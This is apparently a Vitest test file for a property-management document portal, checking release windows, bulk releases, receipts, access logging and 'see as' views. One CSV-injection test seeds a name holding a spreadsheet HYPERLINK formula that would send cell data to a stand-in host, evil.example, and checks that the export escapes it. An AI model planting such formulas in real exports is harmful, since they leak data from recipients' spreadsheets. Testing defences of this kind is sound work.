import { createLocalReq, type Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { importContextFlag } from '@/access/accounting-source'
import { addDays, defaultTimeZone, storedDate, todayIn } from '@/lib/dates'
import { seeAsUser } from '@/auth/see-as'
import { documentFile, listDocuments, openDocument } from '@/portal/models/documents.server'
import { forOneRequest } from '@/portal/models/request.server'
import { objectContacts } from '@/portal/models/contacts.server'

import { seededDocuments, type SeededDocument, visibleTo } from '../helpers/documents'
import { testPayload } from '../helpers/payload'
import { personOfPersona, portalToken, portalUser, staffToken, staffUser } from '../helpers/personas'
import { request, rest } from '../helpers/rest'

let payload: Payload
let seeded: Record<SeededDocument, { id: number; filename: string }>

beforeAll(async () => {
  payload = await testPayload()
  seeded = await seededDocuments(payload)
})

const listAs = async (token: string) =>
  ((await rest('GET', '/documents?depth=0&limit=100', { token })).body.docs as Array<{ id: number }>).map((d) => d.id)

describe('tenant: releases bound to a person, a window and a tenancy (F-80)', () => {
  it('a window opens and closes on its days, both included', async () => {
    const token = await portalToken('tenant')
    const person = await personOfPersona(payload, 'tenant')
    const released = await payload.create({
      collection: 'document-releases',
      data: {
        document: seeded.tenantContract.id,
        person,
        validFrom: storedDate(todayIn(defaultTimeZone)),
        validUntil: storedDate(todayIn(defaultTimeZone)),
      },
    })
    expect(await listAs(token)).toContain(seeded.tenantContract.id)
    await payload.update({
      collection: 'document-releases',
      id: released.id,
      data: { validFrom: storedDate(addDays(todayIn(defaultTimeZone), -10)), validUntil: storedDate(addDays(todayIn(defaultTimeZone), -1)) },
    })
    expect(await listAs(token)).not.toContain(seeded.tenantContract.id)
    await payload.delete({ collection: 'document-releases', id: released.id })
  })

  it('window and person are checked on one and the same release', async () => {
    const tenant = await personOfPersona(payload, 'tenant')
    const other = await personOfPersona(payload, 'otherObject')
    const expired = await payload.create({
      collection: 'document-releases',
      data: { document: seeded.resolution.id, person: tenant, validUntil: storedDate(addDays(todayIn(defaultTimeZone), -1)) },
    })
    const active = await payload.create({
      collection: 'document-releases',
      data: { document: seeded.resolution.id, person: other },
    })
    expect(await listAs(await portalToken('tenant'))).not.toContain(seeded.resolution.id)
    expect(await listAs(await portalToken('otherObject'))).toContain(seeded.resolution.id)
    await payload.delete({ collection: 'document-releases', where: { id: { in: [expired.id, active.id] } } })
  })

  it('removing a release revokes it at once', async () => {
    const token = await portalToken('tenant')
    const person = await personOfPersona(payload, 'tenant')
    const released = await payload.create({
      collection: 'document-releases',
      data: { document: seeded.plan.id, person },
    })
    expect(await listAs(token)).toContain(seeded.plan.id)
    const clerk = await staffToken('clerk')
    expect((await rest('DELETE', `/document-releases/${released.id}`, { token: clerk })).status).toBe(200)
    expect(await listAs(token)).not.toContain(seeded.plan.id)
    const file = await request('GET', `/documents/file/${seeded.plan.filename}`, { token })
    expect(file.status).toBe(403)
  })

  it('a move-out ends the releases bound to the tenancy at once, and only those', async () => {
    const token = await portalToken('tenant')
    const before = await listAs(token)
    expect(before).toEqual(expect.arrayContaining([seeded.houseRules.id, seeded.tenantStatement.id]))
    const tenancy = (await payload.find({ collection: 'tenancies', where: { reference: { equals: 'MV-1001/001' } } }))
      .docs[0]
    // The move-out comes from accounting, like in real life.
    const req = await createLocalReq({ context: { [importContextFlag]: true } }, payload)
    await payload.update({
      collection: 'tenancies',
      id: tenancy.id,
      data: { moveOut: storedDate(addDays(todayIn(defaultTimeZone), -1)) },
      req,
    })
    const after = await listAs(token)
    expect(after).not.toContain(seeded.houseRules.id)
    expect(after).toContain(seeded.tenantStatement.id)
    const file = await request('GET', `/documents/file/${seeded.houseRules.filename}`, { token })
    expect(file.status).toBe(403)
    await payload.update({ collection: 'tenancies', id: tenancy.id, data: { moveOut: null }, req })
    expect(await listAs(token)).toContain(seeded.houseRules.id)
  })
})

describe('clerk: releasing many documents to many persons (F-21, F-22)', () => {
  it('previews how many see it at once, then releases to the current tenants of an object as one batch', async () => {
    const token = await staffToken('clerk')
    const simmering = (await payload.find({ collection: 'objects', where: { number: { equals: '1001' } } })).docs[0]
    const preview = await rest('POST', '/document-releases/preview', {
      token,
      body: { audience: { object: simmering.id, kind: 'tenants' } },
    })
    expect(preview.status).toBe(200)
    // Every holder of an active tenant tenancy of 1001; the tenant, the new tenant and the tenant-owner can sign in.
    expect(preview.body.recipients).toBeGreaterThan(15)
    expect(preview.body.invited).toBe(3)

    const statement = await payload.create({
      collection: 'documents',
      data: { title: 'Heizkostenabrechnung 1001', category: 'heatingCosts', year: 2025, object: simmering.id },
      file: {
        data: Buffer.from((await import('@/lib/documents/simple-pdf')).simplePdf(['HKA'])),
        name: 'hka-1001.pdf',
        mimetype: 'application/pdf',
        size: 1,
      },
    })
    const released = await rest('POST', '/document-releases/bulk', {
      token,
      body: {
        documents: [statement.id, seeded.announcement.id],
        audience: { object: simmering.id, kind: 'tenants' },
        bindToTenancy: true,
        title: 'Heizkosten an die Mieter:innen 1001',
        deadline: addDays(todayIn(defaultTimeZone), 30),
      },
    })
    expect(released.status).toBe(201)
    expect(released.body.releases).toBe(preview.body.recipients * 2)
    for (const persona of ['tenant', 'newTenant', 'tenantOwner'] as const) {
      expect(await listAs(await portalToken(persona))).toContain(statement.id)
    }
    for (const persona of ['formerTenant', 'otherObject', 'owner'] as const) {
      expect(await listAs(await portalToken(persona))).not.toContain(statement.id)
    }
    const batch = await payload.findByID({ collection: 'release-batches', id: released.body.batch })
    expect(batch).toMatchObject({ recipientCount: preview.body.recipients, documentCount: 2 })
  })
})

describe('clerk: a person named and in the audience (F-80)', () => {
  it('binds the release to the tenancy they hold, so that their move-out ends it', async () => {
    const token = await staffToken('clerk')
    const simmering = (await payload.find({ collection: 'objects', where: { number: { equals: '1001' } } })).docs[0]
    const person = await personOfPersona(payload, 'tenant')
    const letter = await payload.create({
      collection: 'documents',
      data: { title: 'Schreiben 1001', category: 'letter', year: 2026, object: simmering.id },
      file: {
        data: Buffer.from((await import('@/lib/documents/simple-pdf')).simplePdf(['Schreiben'])),
        name: 'schreiben-1001.pdf',
        mimetype: 'application/pdf',
        size: 1,
      },
    })
    const released = await rest('POST', '/document-releases/bulk', {
      token,
      body: {
        documents: [letter.id],
        persons: [person],
        audience: { object: simmering.id, kind: 'tenants' },
        bindToTenancy: true,
      },
    })
    expect(released.status).toBe(201)
    const { docs } = await payload.find({
      collection: 'document-releases',
      where: { and: [{ batch: { equals: released.body.batch } }, { person: { equals: person } }] },
      depth: 0,
    })
    expect(docs).toHaveLength(1)
    expect(docs[0].tenancy).toEqual(expect.any(Number))
  })
})

describe('who did it is the signed-in staff member, whatever the request says', () => {
  it('stamps the author of a note and who released a batch; a forged or changed value is ignored', async () => {
    const clerk = await staffUser(payload, 'clerk')
    const admin = await staffUser(payload, 'admin')
    const token = await staffToken('admin')
    const note = await rest('POST', '/notes', { token, body: { subject: 'Schlüsselsafe', author: clerk.id } })
    expect(note.status, JSON.stringify(note.body)).toBe(201)
    const batch = await rest('POST', '/release-batches', {
      token,
      body: { title: 'Rundschreiben', releasedBy: clerk.id },
    })
    expect(batch.status, JSON.stringify(batch.body)).toBe(201)
    const changed = await rest('PATCH', `/release-batches/${batch.body.doc.id}`, {
      token,
      body: { releasedBy: clerk.id },
    })
    expect(changed.status).toBe(200)
    expect((await payload.findByID({ collection: 'notes', id: note.body.doc.id, depth: 0 })).author).toBe(admin.id)
    expect(
      (await payload.findByID({ collection: 'release-batches', id: batch.body.doc.id, depth: 0 })).releasedBy,
    ).toBe(admin.id)
  })
})

describe('proof of receipt (F-81) and the access log (rule 7)', () => {
  it('records the first open per recipient with the file version, lists who has not, and exports them', async () => {
    const tenant = await portalUser(payload, 'tenant')
    const token = await portalToken('tenant')
    const person = await personOfPersona(payload, 'tenant')
    const receiptsOf = async () =>
      (await payload.find({ collection: 'document-receipts', where: { document: { equals: seeded.houseRules.id } } }))
        .docs

    expect(await receiptsOf()).toHaveLength(0)
    const download = await request('GET', `/documents/file/${seeded.houseRules.filename}`, { token })
    expect(download.status).toBe(200)
    await download.arrayBuffer()
    await openDocument(payload, tenant, seeded.houseRules.id)
    const receipts = await receiptsOf()
    expect(receipts).toHaveLength(1)
    expect(receipts[0]).toMatchObject({ via: 'download', fileVersion: 1 })
    expect(receipts[0].person).toMatchObject({ id: person })

    const clerk = await staffToken('clerk')
    const status = await rest('GET', `/documents/${seeded.houseRules.id}/receipts`, { token: clerk })
    expect(status.status).toBe(200)
    const rows = status.body.rows as Array<{ personId: number; openedAt: string | null }>
    expect(rows).toHaveLength(3)
    expect(rows.find((row) => row.personId === person)?.openedAt).toBeTruthy()
    expect(rows.filter((row) => !row.openedAt)).toHaveLength(2)

    const batch = (
      await payload.find({
        collection: 'release-batches',
        where: { title: { equals: 'Hausordnung an die Mieter:innen 1001' } },
      })
    ).docs[0]
    const csv = await request(
      'GET',
      `/release-batches/${batch.id}/receipts?format=csv&deadline=${addDays(todayIn(defaultTimeZone), 7)}`,
      { token: clerk },
    )
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toContain('text/csv')
    const bytes = Buffer.from(await csv.arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = bytes.subarray(3).toString('utf8').trim().split('\r\n')
    expect(lines[0]).toBe('Empfänger:in;Anschrift;Dokument;Freigegeben am;Frist;Portal-Zugang;Geöffnet am')
    expect(lines).toHaveLength(3)
    expect(lines[1]).toMatch(/;\d{2}\.\d{2}\.\d{4};\d{2}\.\d{2}\.\d{4};ja;$/)

    const noPermission = await request('GET', `/documents/${seeded.houseRules.id}/receipts`, { token })
    expect(noPermission.status).toBe(403)
  })

  it('logs every portal read: list, single read and download, with who and what', async () => {
    const token = await portalToken('newTenant')
    const person = await personOfPersona(payload, 'newTenant')
    const logged = async () =>
      (
        await payload.find({
          collection: 'document-access-log',
          where: { personId: { equals: person } },
          sort: 'createdAt',
          pagination: false,
        })
      ).docs
    const before = (await logged()).length
    await rest('GET', '/documents?depth=0', { token })
    await rest('GET', `/documents/${seeded.newStatement.id}?depth=0`, { token })
    await (await request('GET', `/documents/file/${seeded.newStatement.filename}`, { token })).arrayBuffer()
    await rest('GET', '/tenancies?depth=2', { token })
    const entries = (await logged()).slice(before)
    expect(entries.map((entry) => entry.action)).toEqual(['list', 'read', 'download', 'list'])
    expect(entries[0].documentIds).toEqual(expect.arrayContaining(visibleTo.newTenant.map((key) => seeded[key].id)))
    expect(entries[1]).toMatchObject({ documentIds: [seeded.newStatement.id], seeAsStaffUserId: null })
    expect(entries[3].documentIds).toEqual(expect.arrayContaining([seeded.newStatement.id, seeded.welcome.id]))
    for (const entry of entries) expect(entry.portalUserId).toBeTypeOf('number')
  })

  it('the portal’s download runs the same file route in the portal process: bytes, receipt, read log; a foreign file refused', async () => {
    const person = await personOfPersona(payload, 'owner')
    const user = forOneRequest(await portalUser(payload, 'owner'))
    const file = await documentFile(payload, user, seeded.ownerStatement.filename)
    expect(file?.status).toBe(200)
    expect((await file!.arrayBuffer()).byteLength).toBeGreaterThan(0)
    const receipts = await payload.find({
      collection: 'document-receipts',
      where: { document: { equals: seeded.ownerStatement.id }, person: { equals: person } },
    })
    expect(receipts.docs).toHaveLength(1)
    expect(receipts.docs[0]).toMatchObject({ via: 'download' })
    const logged = await payload.find({
      collection: 'document-access-log',
      where: { personId: { equals: person }, action: { equals: 'download' } },
    })
    expect(logged.docs.map((entry) => entry.documentIds)).toContainEqual([seeded.ownerStatement.id])

    const next = forOneRequest(await portalUser(payload, 'owner'))
    expect(await documentFile(payload, next, seeded.otherStatement.filename)).toBeNull()
    expect(await documentFile(payload, next, seeded.tenantContract.filename)).toBeNull()
  })

  it('writes a name that looks like a formula as text into the CSV (CSV injection)', async () => {
    const person = await payload.create({
      collection: 'persons',
      data: { kind: 'natural', firstName: 'Eva', lastName: '=HYPERLINK("http://evil.example/?"&A1,"klick")' },
    })
    await payload.create({
      collection: 'document-releases',
      data: { document: seeded.houseRules.id, person: person.id },
    })
    const csv = await request('GET', `/documents/${seeded.houseRules.id}/receipts?format=csv`, {
      token: await staffToken('clerk'),
    })
    expect(csv.status).toBe(200)
    const line = (await csv.text()).split('\r\n').find((row) => row.includes('HYPERLINK'))
    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""klick""), Eva";`)).toBe(true)
  })
})

describe('clerk: "see as" a person (F-23)', () => {
  it('shows exactly what the person sees, through the portal models, and records nothing as theirs', async () => {
    const clerk = await staffUser(payload, 'clerk')
    for (const persona of ['tenant', 'formerTenant', 'owner', 'provider'] as const) {
      const own = await listDocuments(payload, await portalUser(payload, persona))
      const seen = await listDocuments(
        payload,
        await seeAsUser(payload, clerk, await personOfPersona(payload, persona)),
      )
      expect(seen.docs.map((doc) => doc.id)).toEqual(own.docs.map((doc) => doc.id))
      expect(seen.docs.length).toBeGreaterThanOrEqual(visibleTo[persona].length)
    }
    const tenantPerson = await personOfPersona(payload, 'tenant')
    const asTenant = await seeAsUser(payload, clerk, tenantPerson)
    await openDocument(payload, asTenant, seeded.tenantStatement.id)
    const receipts = await payload.count({
      collection: 'document-receipts',
      where: { document: { equals: seeded.tenantStatement.id } },
    })
    expect(receipts.totalDocs).toBe(0)
    const log = await payload.find({
      collection: 'document-access-log',
      where: { seeAsStaffUserId: { equals: clerk.id } },
    })
    expect(log.docs.length).toBeGreaterThan(0)
    expect(log.docs.every((entry) => entry.portalUserId === null)).toBe(true)

    // A person without a portal sign-in yet: check before inviting.
    const uninvited = await payload.create({
      collection: 'persons',
      data: { kind: 'natural', lastName: 'Neu', firstName: 'Nina' },
    })
    await payload.create({ collection: 'document-releases', data: { document: seeded.plan.id, person: uninvited.id } })
    const preview = await listDocuments(payload, await seeAsUser(payload, clerk, uninvited.id))
    expect(preview.docs.map((doc) => doc.id)).toEqual([seeded.plan.id])
  })

  it('shows the published contacts for the person’s audience only, with public details only', async () => {
    const clerk = await staffUser(payload, 'clerk')
    const asTenant = await objectContacts(
      payload,
      await seeAsUser(payload, clerk, await personOfPersona(payload, 'tenant')),
    )
    const simmering = asTenant.find((object) => object.number === '1001')!
    expect(simmering.publishedContacts?.map((contact) => contact.name)).toEqual(['Hotline', 'Hausbetreuung'])
    const asOwner = await objectContacts(payload, await portalUser(payload, 'owner'))
    expect(asOwner.map((object) => object.number)).toEqual(['1002'])
    expect(asOwner[0].publishedContacts?.map((contact) => contact.name)).toEqual(['Hausverwaltung', 'Notdienst'])
    const manager = asOwner[0].publishedContacts?.[0]
    expect(manager?.details?.map((detail) => detail.value)).toEqual([
      '+43 1 712 34 56-10',
      'berger@demo-hausverwaltung.at',
    ])
    const asProvider = await objectContacts(payload, await portalUser(payload, 'provider'))
    expect(asProvider[0].publishedContacts?.map((contact) => contact.name)).toEqual(['Hotline', 'Hausbetreuung'])
    const image = asProvider[0].publishedImages?.[0]
    expect(image?.title).toBe('Ansicht Simmeringer Hauptstraße')
    expect(image?.url).toBe(`/api/objects/${asProvider[0].id}/images/${image?.document}`)
    expect(await objectContacts(payload, await portalUser(payload, 'formerTenant'))).toEqual([])
    // The allocation office reads the object of the units it allocates, but no contact entry is for it.
    const asOffice = await objectContacts(payload, await portalUser(payload, 'allocationOffice'))
    expect(asOffice.map((object) => [object.number, object.publishedContacts ?? []])).toEqual([['1001', []]])
  })
})

describe('object images (F-31, F-53): published with the object, never as a document (rule 1)', () => {
  it('serves an image to portal users related to the object, and to nobody else', async () => {
    const payload = await testPayload()
    const [asProvider] = await objectContacts(payload, await portalUser(payload, 'provider'))
    const image = asProvider.publishedImages?.[0]
    expect(image?.url).toBeTruthy()
    const path = image!.url!.replace(/^\/api/, '')

    const served = await request('GET', path, { token: await portalToken('provider') })
    expect(served.status).toBe(200)
    expect(served.headers.get('content-type')).toMatch(/^image\//)
    expect((await served.arrayBuffer()).byteLength).toBeGreaterThan(0)

    expect((await request('GET', path, { token: await portalToken('otherObject') })).status).toBe(404)
    expect((await request('GET', path, { token: await portalToken('formerTenant') })).status).toBe(404)
    expect((await request('GET', path)).status).toBe(403)
    expect((await request('GET', path, { token: await staffToken('clerk') })).status).toBe(200)

    // The image document itself stays out of reach of the document paths.
    const { docs } = (await rest('GET', '/documents?limit=100&depth=0', { token: await portalToken('provider') })).body
    expect(docs.map((doc: { id: number }) => doc.id)).not.toContain(image!.document)
    const seeded = await seededDocuments(payload)
    const file = await request('GET', `/documents/file/${seeded.image.filename}`, {
      token: await portalToken('provider'),
    })
    expect(file.status).toBe(403)
  })
})
